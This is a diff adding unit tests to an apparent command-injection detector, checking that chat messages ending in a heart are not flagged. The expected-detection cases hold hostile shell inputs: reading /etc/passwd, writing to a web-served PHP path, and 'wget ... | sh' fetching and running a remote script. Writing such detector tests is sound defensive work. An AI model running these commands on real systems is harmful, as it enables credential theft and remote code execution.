@@ -261,3 +261,27 @@ describe('cmd', () => {
     }
   })
 })
+
+describe('cmd: a heart is chat, not a redirection', () => {
+  it('leaves a command word before a heart alone', () => {
+    for (const s of [
+      'thanks for the help; more tomorrow <3',
+      'great job team; more wins ahead <3',
+      'ok; less is more <3',
+      'id <3',
+      'love you all; see you at 5 <333',
+      'we did it; more soon!<3 🎉',
+    ])
+      expect(p1.first(s), s).toBeNull()
+  })
+  it('still reads a redirection that is no heart, and the command around a heart', () => {
+    for (const s of [
+      ';cat /etc/passwd <3',
+      'sh <3; whoami',
+      'whoami <3x',
+      'more <3 > /var/www/x.php',
+      'a <3 b; wget http://x.io/s | sh',
+    ])
+      expect(tagOf(s), s).toBe('ws-cmd-injection')
+  })
+})
